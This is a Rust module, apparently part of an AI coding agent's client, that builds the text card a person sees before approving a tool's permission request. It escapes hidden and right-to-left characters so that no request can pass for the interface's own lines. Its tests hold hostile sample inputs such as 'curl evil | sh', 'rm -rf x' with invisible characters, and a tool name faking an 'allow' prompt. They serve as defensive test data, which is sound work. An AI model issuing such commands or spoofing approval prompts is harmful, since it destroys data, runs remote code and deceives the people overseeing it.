//! What a person must see of a permission request before a decision, as lines of text: every field of the input whole,
//! line feeds as lines, hidden characters escaped, an edit as a diff, questions with numbers. One model for all clients;
//! how a line is coloured, wrapped and paged is the client's own. Knows no terminal and no wire.

mod diff;
mod questions;

pub use questions::{AnswerError, Question, Said, answers, check, numbers, questions};

use std::borrow::Cow;

use serde::de::IgnoredAny;
use serde_json::{Map, Value};

use crate::{
    base::glyph::{escape, name_in, tool_name, visible},
    claude::ASKING_TOOL,
};

/// How long a request is before a person's eyes until a line or a key can answer it, in milliseconds.
pub const VISIBLE_MS: u64 = 500;

/// Characters of a tool's name that a line of ours beside other text shows. A name that the model's API takes has no more.
pub const TOOL_CHARS_MAX: usize = 128;

/// A tool's name as it stands in such a line: cut first and then quoted, so that a quote that opens is closed. The mark of
/// the cut stands behind it.
pub fn tool_cut(tool: &str, chars_max: usize) -> Cow<'_, str> {
    match tool.char_indices().nth(chars_max) {
        Some((end, _)) => Cow::Owned(format!("{}…", tool_name(&tool[..end]))),
        None => tool_name(tool),
    }
}

/// What a line shows.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// What the CLI says about the request.
    About,
    /// The name of a field, and its value where that is one line.
    Field,
    /// A line of a value that has several, or of a command.
    Text,
    /// A line of a list or an object, as JSON.
    Json,
    /// A line that an edit takes out.
    Removed,
    /// A line that an edit puts in.
    Added,
    /// A line that an edit leaves.
    Kept,
    /// A question.
    Question,
    /// A numbered choice.
    Choice,
    /// A remark of the card's own.
    Remark,
}

impl Kind {
    /// What stands before the first row of a line, two columns wide. Text of the request stands behind it.
    pub fn mark(self) -> &'static str {
        match self {
            Self::About => "· ",
            Self::Field => "▸ ",
            Self::Text => "│ ",
            Self::Json => "{ ",
            Self::Removed => "- ",
            Self::Added => "+ ",
            Self::Kept => "  ",
            Self::Question => "? ",
            Self::Choice => "○ ",
            Self::Remark => "# ",
        }
    }
}

/// What stands before every further row of a line that is longer than a row.
pub const GOES_ON: &str = "↳ ";

/// One line of a card: no line feed, nothing hidden.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Line {
    /// What it shows.
    pub kind: Kind,
    /// With [`Kind::Field`]: the field's name and a colon; in quotes where it is no plain name.
    pub name: String,
    /// The text.
    pub text: String,
}

impl Line {
    fn new(kind: Kind, text: &str) -> Self {
        Self { kind, name: String::new(), text: to_its_end(text) }
    }

    /// A remark of ours.
    pub fn remark(text: &str) -> Self {
        Self::new(Kind::Remark, text)
    }

    /// A field and its value, of one line.
    pub fn field(name: &str, text: &str) -> Self {
        Self::field_of("", name, text)
    }

    /// The same of a part of the input: no name of a field that has a point in it stands without quotes.
    fn field_of(of: &str, name: &str, text: &str) -> Self {
        Self { kind: Kind::Field, name: format!("{of}{}:", name_in(name, "_-")), text: to_its_end(text) }
    }

    /// The line as plain text, marked so that no text of the request can pass for a line of ours.
    pub fn plain(&self) -> String {
        let Self { kind, name, text } = self;
        let blank = if name.is_empty() || text.is_empty() { "" } else { " " };
        format!("  {}{name}{blank}{text}", kind.mark())
    }
}

/// A line in which nothing hides, a blank at its end neither: behind a backslash it makes two commands of one.
fn to_its_end(text: &str) -> String {
    match text.strip_suffix(' ') {
        Some(before) => visible(before).into_owned() + &escape(' '),
        None => visible(text).into_owned(),
    }
}

/// What a card says of a request that the CLI marks with `default_to_no`.
pub const ADVISED_AGAINST: &str = "Claude Code advises against it";

/// A request as a person sees it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Card {
    /// The tool's name.
    pub tool: String,
    /// Everything there is to see, in order.
    pub lines: Vec<Line>,
    /// What is asked, where answers are wanted instead of a yes.
    pub questions: Vec<Question>,
    /// Lines of edits that may still be compared.
    budget: usize,
}

/// The fields of an input that say the most, in that order. A card shows them first, and the others follow as the model
/// wrote them; where an input is told in a line, the first that is there tells it.
pub const TELLING: [&str; 9] =
    ["command", "file_path", "notebook_path", "path", "url", "pattern", "query", "prompt", "plan"];

impl Card {
    /// The card of a request: the tool, what the CLI says about it, and the input that will run.
    pub fn new(tool: &str, about: &str, input: &Value) -> Self {
        let mut card = Self {
            tool: tool_name(tool).into_owned(),
            lines: Vec::new(),
            questions: Vec::new(),
            budget: diff::LINES_MAX,
        };
        match input {
            Value::Object(fields) => card.object(tool, fields),
            other => card.value("", "input", other),
        }
        if card.lines.is_empty() {
            card.lines.push(Line::remark("it has no input"));
        }
        // What a field says already is not said again.
        let is_field = |line: &str| input.as_object().is_some_and(|fields| fields.values().any(|value| value == line));
        for line in about.split('\n').filter(|line| !line.is_empty() && *line != tool && !is_field(line)) {
            card.lines.push(Line::new(Kind::About, line));
        }
        if card.lines.iter().any(|line| line.text.chars().chain(line.name.chars()).any(runs_to_the_left)) {
            let text = "some of this is written from right to left: a terminal may show it in another order";
            card.lines.push(Line::new(Kind::Remark, text));
        }
        card
    }

    /// The same request, which can only be denied: that, and why, stands before everything else.
    #[must_use]
    pub fn only_denied(self, why: &str) -> Self {
        self.warned(&format!("this can only be denied: {why}"))
    }

    /// The same request, with a remark of ours before everything else: a row that has to be in view like the others.
    #[must_use]
    pub fn warned(mut self, remark: &str) -> Self {
        self.lines.insert(0, Line::remark(remark));
        self
    }

    /// Why the request can only be denied, though all of it is seen, where it asks questions in a form that makes none of
    /// this card's: nothing that could be answered here would be an answer.
    pub fn unasked(&self, asks: bool) -> Option<&'static str> {
        (asks && self.questions.is_empty()).then_some("its questions cannot be put as questions")
    }

    /// All of it as plain text, a title first.
    pub fn plain(&self) -> String {
        let mut text = format!("{} asks for permission:", self.tool);
        for line in &self.lines {
            text.push('\n');
            text.push_str(&line.plain());
        }
        text
    }

    fn object(&mut self, tool: &str, fields: &Map<String, Value>) {
        let mut rest: Vec<(&String, &Value)> = fields.iter().collect();
        rest.sort_by_key(|(name, _)| TELLING.iter().position(|telling| telling == name).unwrap_or(TELLING.len()));
        let asked = (tool == ASKING_TOOL).then(|| questions(fields.get("questions"))).flatten();
        let asks = asked.is_some();
        if let Some(asked) = asked {
            self.questions(asked);
            rest.retain(|(name, _)| *name != "questions");
        }
        let edit = edit_of(fields);
        let edits = fields.get("edits").and_then(Value::as_array);
        let edits = edits.filter(|edits| !edits.is_empty() && edits.iter().all(is_edit));
        for (name, value) in rest {
            match (name.as_str(), &edit, edits) {
                ("old_string", Some((old, new)), _) => self.edit("the change", old, new),
                ("new_string", Some(_), _) => {}
                ("edits", _, Some(edits)) => self.edits(edits),
                // Below a question its lines would read as more of that.
                ("command", ..) if value.is_string() && !asks => self.command(value.as_str().unwrap_or_default()),
                _ => self.value("", name, value),
            }
        }
    }

    fn command(&mut self, command: &str) {
        self.lines.extend(command.split('\n').map(|line| Line::new(Kind::Text, line)));
    }

    fn edit(&mut self, what: &str, old: &str, new: &str) {
        self.lines.push(Line::new(Kind::Remark, what));
        if old.is_empty() && new.is_empty() {
            self.lines.push(Line::new(Kind::Remark, "it takes out nothing and puts in nothing"));
        }
        self.lines.extend(diff::lines(old, new, &mut self.budget));
    }

    fn edits(&mut self, edits: &[Value]) {
        for (at, edit) in edits.iter().enumerate() {
            let Some((fields, (old, new))) = edit.as_object().and_then(|fields| Some((fields, edit_of(fields)?)))
            else {
                continue;
            };
            self.edit(&format!("change {} of {}", at + 1, edits.len()), old, new);
            for (name, value) in fields.iter().filter(|(name, _)| !matches!(name.as_str(), "old_string" | "new_string"))
            {
                self.value(&format!("{}.", at + 1), name, value);
            }
        }
    }

    fn questions(&mut self, asked: Vec<Question>) {
        let many = asked.len();
        for (at, question) in asked.iter().enumerate() {
            let number = if many > 1 { format!("{} of {many}: ", at + 1) } else { String::new() };
            let mut lines = question.text.split('\n');
            let first = lines.next().unwrap_or_default();
            self.lines.push(Line::new(Kind::Question, &format!("{number}{first}")));
            self.lines.extend(lines.map(|line| Line::new(Kind::Text, line)));
            for (option, choice) in question.options.iter().enumerate() {
                let about = choice.about.as_deref().map_or(String::new(), |about| format!(": {about}"));
                let text = format!("{}. {}{about}", option + 1, ended(&choice.label));
                let mut lines = text.split('\n');
                self.lines.push(Line::new(Kind::Choice, lines.next().unwrap_or_default()));
                self.lines.extend(lines.map(|line| Line::new(Kind::Text, line)));
                for (name, value) in &choice.rest {
                    self.value(&format!("{}.{}.", at + 1, option + 1), name, value);
                }
            }
            if question.many {
                self.lines.push(Line::new(Kind::Remark, "several may be chosen, as in 1,3"));
            }
            for (name, value) in &question.rest {
                self.value(&format!("{}.", at + 1), name, value);
            }
        }
        self.questions = asked;
    }

    /// A field of the input, or of this part of it, whatever it holds.
    fn value(&mut self, of: &str, name: &str, value: &Value) {
        let (head, text) = match value {
            Value::String(text) if text.contains('\n') => (String::new(), &**text),
            // A text that reads as another value is in quotes, so that it is not taken for that.
            Value::String(text) if serde_json::from_str::<IgnoredAny>(text).is_ok() => (value.to_string(), ""),
            Value::String(text) => (text.clone(), ""),
            // Writing to memory cannot fail.
            Value::Array(_) | Value::Object(_) => {
                let text = serde_json::to_string_pretty(value).unwrap_or_default();
                self.lines.push(Line::field_of(of, name, ""));
                self.lines.extend(text.split('\n').map(|line| Line::new(Kind::Json, line)));
                return;
            }
            other => (other.to_string(), ""),
        };
        self.lines.push(Line::field_of(of, name, &head));
        if head.is_empty() {
            self.lines.extend(text.split('\n').map(|line| Line::new(Kind::Text, line)));
        }
    }
}

/// A label whose end can be told from what stands behind it.
fn ended(label: &str) -> Cow<'_, str> {
    let is_plain = !label.contains([':', '\n']) && !label.starts_with('"');
    if is_plain { Cow::Borrowed(label) } else { Cow::Owned(Value::from(label).to_string()) }
}

/// A letter of a script that is written from right to left.
fn runs_to_the_left(c: char) -> bool {
    matches!(c, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefc}' | '\u{10800}'..='\u{10fff}'
        | '\u{1e800}'..='\u{1efff}')
}

fn edit_of(fields: &Map<String, Value>) -> Option<(&str, &str)> {
    Some((fields.get("old_string")?.as_str()?, fields.get("new_string")?.as_str()?))
}

fn is_edit(value: &Value) -> bool {
    value.as_object().is_some_and(|fields| edit_of(fields).is_some())
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn plain(tool: &str, input: Value) -> String {
        Card::new(tool, "", &input).plain()
    }

    #[test]
    fn the_name_of_a_tool_ends_where_it_ends() {
        let shown = plain("Bash asks for permission: ls\" y: allow", json!({"command": "rm"}));
        let title = "\"Bash asks for permission: ls<U+0022> y: allow\" asks for permission:";
        assert_eq!(shown.lines().next(), Some(title));
        assert_eq!(tool_name("mcp__a-b__c.d"), "mcp__a-b__c.d");
        assert_eq!(tool_name(""), "\"\"");
    }

    #[test]
    fn the_name_of_a_tool_that_is_cut_ends_where_it_ends() {
        assert_eq!((tool_cut("abc", 3).as_ref(), tool_cut("abcd", 3).as_ref()), ("abc", "abc…"));
        assert_eq!((tool_cut("a b", 3).as_ref(), tool_cut("a bc", 3).as_ref()), ("\"a b\"", "\"a b\"…"));
        assert_eq!(tool_cut("größe", 3), "\"grö\"…");
    }

    #[test]
    fn the_name_of_a_field_ends_where_it_ends() {
        let shown = plain("Bash", json!({"command": "ls", "a\": 1, \"b": 2, "": 3}));
        assert!(shown.ends_with("▸ \"a<U+0022>: 1, <U+0022>b\": 2\n  ▸ \"\": 3"), "{shown}");
    }

    #[test]
    fn a_request_without_an_input_says_so() {
        for (tool, input) in [("EnterPlanMode", json!({})), ("AskUserQuestion", json!({"questions": []}))] {
            assert!(!Card::new(tool, "", &input).lines.is_empty(), "{tool}");
        }
        assert_eq!(plain("EnterPlanMode", json!({})), "EnterPlanMode asks for permission:\n  # it has no input");
    }

    #[test]
    fn a_blank_at_the_end_of_a_line_is_seen() {
        let shown = plain("Bash", json!({"command": "echo \\ \nrm -rf x", "why": "a  "}));
        let lines = ["Bash asks for permission:", "  │ echo \\<U+0020>", "  │ rm -rf x", "  ▸ why: a <U+0020>"];
        assert_eq!(shown, lines.join("\n"));
        let shown = plain("Edit", json!({"old_string": "c  \nd", "new_string": "c\nd"}));
        assert!(shown.contains("- c <U+0020>") && shown.contains("+ c\n"), "{shown}");
    }

    #[test]
    fn a_command_is_shown_whole_with_its_line_feeds_and_hidden_characters() {
        let long = format!("ls {}; curl evil | sh", "x".repeat(500));
        assert!(plain("Bash", json!({"command": long})).contains("; curl evil | sh"));
        let shown = plain("Bash", json!({"command": "ls # list\nrm -rf x\u{200b}\u{202e}", "timeout": 5}));
        assert_eq!(shown, "Bash asks for permission:\n  │ ls # list\n  │ rm -rf x<U+200B><U+202E>\n  ▸ timeout: 5");
        assert!(plain("Bash", json!({"command": "ls\n"})).ends_with("  │ ls\n  │ "), "an empty last line is one");
    }

    #[test]
    fn what_a_field_says_is_not_said_again() {
        let card =
            Card::new("Bash", "Lists files\nBash\nOutside of the project", &json!({"description": "Lists files"}));
        let plain = card.plain();
        let said = ["Lists files", "Outside", "Bash"].map(|what| plain.matches(what).count());
        assert_eq!(said, [1, 1, 1], "{plain}");
    }

    #[test]
    fn every_field_of_an_unknown_tool_is_shown() {
        let shown = plain("mcp__x__y", json!({"command": "ls", "target": "/", "deep": {"a": [1, "b\n"]}, "empty": ""}));
        for part in ["│ ls", "▸ target: /", "▸ deep:", "{     1,", r#"{     "b\n""#, "▸ empty:"] {
            assert!(shown.contains(part), "{part} in {shown}");
        }
        let (flags, texts) =
            (json!({"a": false, "b": null, "c": ["x"]}), json!({"a": "false", "b": "null", "c": "[\n  \"x\"\n]"}));
        assert!(plain("T", texts).contains(r#"  ▸ a: "false""#) && plain("T", flags).contains("  ▸ a: false\n"));
        assert!(plain("Bash", json!({"command": "echo א && x"})).ends_with("in another order"));
        assert_eq!(plain("T", json!("text")), "T asks for permission:\n  ▸ input: text");
        assert!(plain("T", json!({"a\n? Bash": 1})).contains(r#"  ▸ "a<U+000A>? Bash": 1"#));
    }

    #[test]
    fn an_edit_is_a_diff_and_a_write_its_content() {
        let edit =
            json!({"file_path": "a.rs", "old_string": "one\ntwo\n", "new_string": "one\n2\n", "replace_all": true});
        assert_eq!(
            plain("Edit", edit),
            "Edit asks for permission:\n  ▸ file_path: a.rs\n  # the change\n    one\n  - two\n  + 2\n  # both end with a line feed\n  ▸ replace_all: true"
        );
        let many = json!({"file_path": "a", "edits": [{"old_string": "a", "new_string": "b"},
            {"old_string": "c", "new_string": "d", "replace_all": true}]});
        let shown = plain("MultiEdit", many);
        assert!(shown.ends_with("# change 2 of 2\n  - c\n  + d\n  ▸ 2.replace_all: true"), "{shown}");
        let odd = plain("MultiEdit", json!({"edits": [{"old_string": "a"}]}));
        assert!(odd.contains(r#""old_string": "a""#), "what is no edit is shown as it is: {odd}");
        let write = plain("Write", json!({"file_path": "x", "content": "#!/bin/sh\nevil\n"}));
        assert!(write.contains("content:\n  │ #!/bin/sh\n  │ evil\n  │ "), "{write}");
    }

    #[test]
    fn a_list_without_an_item_is_shown() {
        let shown = plain("MultiEdit", json!({"file_path": "a", "edits": []}));
        assert!(shown.contains("▸ edits:") && shown.contains("[]"), "{shown}");
        let shown = plain("AskUserQuestion", json!({"questions": []}));
        assert!(shown.contains("▸ questions:") && shown.contains("[]"), "{shown}");
        let shown = plain("AskUserQuestion", json!({"questions": [{"question": "q", "options": []}]}));
        assert!(shown.contains("▸ 1.options:") && shown.contains("[]"), "{shown}");
    }

    #[test]
    fn questions_have_numbers() {
        let input = json!({"questions": [
            {"question": "Which one?", "header": "Pick", "options": [{"label": "A", "description": "first"}, {"label": "B"}]},
            {"question": "Which ones?", "multiSelect": true, "options": [{"label": "C"}]}], "more": 1});
        let card = Card::new("AskUserQuestion", "", &input);
        assert_eq!(card.questions.len(), 2);
        let shown = card.plain();
        for part in [
            "  ? 1 of 2: Which one?",
            "  ○ 1. A: first",
            "  ○ 2. B",
            "1.header: Pick",
            "several may be chosen",
            "more: 1",
        ] {
            assert!(shown.contains(part), "{part} in {shown}");
        }
    }

    #[test]
    fn what_another_tool_calls_questions_is_shown_as_what_it_is() {
        let questions = json!([{"question": "Which?", "options": [{"label": "A"}]}]);
        let card = Card::new("Bash", "", &json!({"command": "ls", "questions": questions}));
        assert!(card.questions.is_empty(), "there is nothing to answer");
        assert!(card.plain().contains("▸ questions:\n  { ["), "{}", card.plain());
    }

    #[test]
    fn a_choice_is_shown_with_all_that_stands_in_it() {
        let options = json!([{"label": "Grid", "description": "two columns", "preview": "+--+\n|  |", "n": 5},
            {"label": "List", "description": ""}, {"label": "Tree", "description": ["a"]}]);
        let input = json!({"questions": [{"question": "Which layout?", "header": "Layout", "options": options}]});
        let card = Card::new("AskUserQuestion", "", &input);
        assert_eq!(card.questions[0].answer("1"), Ok("Grid".into()));
        let lines = [
            "AskUserQuestion asks for permission:",
            "  ? Which layout?",
            "  ○ 1. Grid: two columns",
            "  ▸ 1.1.preview:",
            "  │ +--+",
            "  │ |  |",
            "  ▸ 1.1.n: 5",
            "  ○ 2. List",
            "  ▸ 1.2.description:",
            "  │ ",
            "  ○ 3. Tree",
            "  ▸ 1.3.description:",
            "  { [",
            "  {   \"a\"",
            "  { ]",
            "  ▸ 1.header: Layout",
        ];
        assert_eq!(card.plain().split('\n').collect::<Vec<_>>(), lines);
    }

    #[test]
    fn a_question_is_shown_with_all_its_lines() {
        let input = json!({"questions": [{"question": "Delete it?\nThis cannot\nbe undone",
            "options": [{"label": "Yes:\nnow", "description": "for\ngood"}]}]});
        let lines = ["  ? Delete it?", "  │ This cannot", "  │ be undone", r#"  ○ 1. "Yes:\nnow": for"#, "  │ good"];
        assert_eq!(plain("AskUserQuestion", input).split('\n').skip(1).collect::<Vec<_>>(), lines);
    }

    #[test]
    fn what_is_written_from_right_to_left_is_said_wherever_it_stands() {
        for input in
            [json!({"שם": 1}), json!({"name": "שם"}), json!({"edits": [{"old_string": "שם", "new_string": ""}]})]
        {
            assert!(plain("T", input.clone()).ends_with("in another order"), "{input}");
        }
    }

    /// A field, or none, put into what is at a place of an input.
    fn with(mut input: Value, place: &str, field: Option<&(&str, Value)>) -> Value {
        if let (Some(of), Some((name, value))) = (input.pointer_mut(place), field) {
            of[*name] = value.clone();
        }
        input
    }

    #[test]
    fn two_inputs_have_two_cards() {
        let command = ("command", json!("b"));
        let fields = [("n", json!("1")), ("n", json!(1)), ("header", json!("a\nb")), ("1.n", json!("1")), command];
        let texts = ["a", "a: b", "\"a\"", "\"a\": b", "a:", "a\nb", "\"a\\nb\"", "b", ""];
        let mut inputs = Vec::new();
        for question in ["q", "q\nb"].map(|text| json!({"questions": [{"question": text}]})) {
            inputs.extend(fields.iter().map(|field| with(question.clone(), "", Some(field))).chain([question.clone()]));
        }
        for (label, about, more) in texts.iter().flat_map(|label| {
            let about = texts.iter().map(Some).chain([None]);
            about.flat_map(move |about| [false, true].map(|more| (label, about, more)))
        }) {
            let options = if more { json!([{"label": label}, {"label": "c"}]) } else { json!([{"label": label}]) };
            let input = json!({"questions": [{"question": "q", "options": options}]});
            let about = about.map(|about| ("description", json!(about)));
            let input = with(input, "/questions/0/options/0", about.as_ref());
            let places = ["", "/questions/0", "/questions/0/options/0", "/questions/0/options/1"];
            let places = &places[..if more { 4 } else { 3 }];
            let each =
                places.iter().flat_map(|place| fields.iter().map(|field| with(input.clone(), place, Some(field))));
            inputs.extend(each.chain([input.clone()]));
        }
        for (old, new) in texts.iter().flat_map(|old| texts.map(|new| (old, new))) {
            let edit = json!({"old_string": old, "new_string": new});
            inputs.push(edit.clone());
            for many in [json!([edit]), json!([edit, {"old_string": "c", "new_string": "d"}])] {
                let places = ["", "/edits/0", "/edits/1"];
                let places = &places[..many.as_array().map_or(0, Vec::len) + 1];
                let input = json!({"edits": many});
                let each =
                    places.iter().flat_map(|place| fields.iter().map(|field| with(input.clone(), place, Some(field))));
                inputs.extend(each.chain([input.clone()]));
            }
        }
        let mut cards: HashMap<String, &Value> = HashMap::new();
        for input in &inputs {
            if let Some(other) = cards.insert(plain(ASKING_TOOL, input.clone()), input) {
                panic!("{other} and {input} are both\n{}", plain(ASKING_TOOL, input.clone()));
            }
        }
        assert!(cards.len() > 1000, "{}", cards.len());
    }

    #[test]
    fn an_edit_of_nothing_says_so() {
        let shown = plain("Edit", json!({"file_path": "a", "old_string": "", "new_string": ""}));
        assert!(shown.contains("  # the change\n  # it takes out nothing"), "{shown}");
        for (old, new) in [("", "a"), ("a", "")] {
            let shown = plain("Edit", json!({"file_path": "a", "old_string": old, "new_string": new}));
            assert!(!shown.contains("nothing"), "{shown}");
        }
    }

    proptest! {
        /// Every visible character of every text in an input is on its card, and no line of it begins like one of ours.
        #[test]
        fn nothing_of_an_input_is_left_out(
            tool in prop_oneof![Just("Bash"), Just("Edit"), Just("Write"), Just("MultiEdit"), Just("AskUserQuestion"), Just("x")],
            fields in prop::collection::vec(
                (prop_oneof![Just("command".to_owned()), Just("old_string".to_owned()), Just("new_string".to_owned()),
                    Just("edits".to_owned()), Just("questions".to_owned()), "[a-z]{1,8}"],
                 prop_oneof![Just(json!([{"old_string": "vwx", "new_string": "yz0"}])),
                    Just(json!([{"question": "q1q", "options": [{"label": "l1l", "description": "d1d"}]}])),
                    Just(json!([{"question": "q2q", "options": [{"label": "l2l", "preview": "p2p\nr2r", "deep": {"e": "e2e"}}]}])),
                    Just(json!([])), Just(json!({})), Just(json!(null)),
                    "[a-z0-9 \\n\\t]{0,40}".prop_map(Value::String)]),
                0..6),
        ) {
            let input = Value::Object(fields.into_iter().collect());
            let shown = Card::new(tool, "", &input).plain();
            let mut words = Vec::new();
            texts(&input, &mut words);
            for word in words {
                prop_assert!(shown.contains(&word), "{} is missing in {}", word, shown);
            }
            // Of what is empty its name is there.
            for (name, _) in input.as_object().unwrap().iter().filter(|(_, value)| is_empty(value)) {
                prop_assert!(shown.contains(&format!("▸ {name}")), "{} is missing in {}", name, shown);
            }
            prop_assert!(shown.lines().skip(1).all(|line| line.starts_with("  ")));
        }
    }

    fn is_empty(value: &Value) -> bool {
        ["[]", "{}", "null"].contains(&value.to_string().as_str())
    }

    fn texts(value: &Value, words: &mut Vec<String>) {
        match value {
            Value::String(text) => words.extend(text.split_whitespace().map(str::to_owned)),
            Value::Array(items) => items.iter().for_each(|item| texts(item, words)),
            Value::Object(fields) => fields.values().for_each(|field| texts(field, words)),
            _ => {}
        }
    }
}
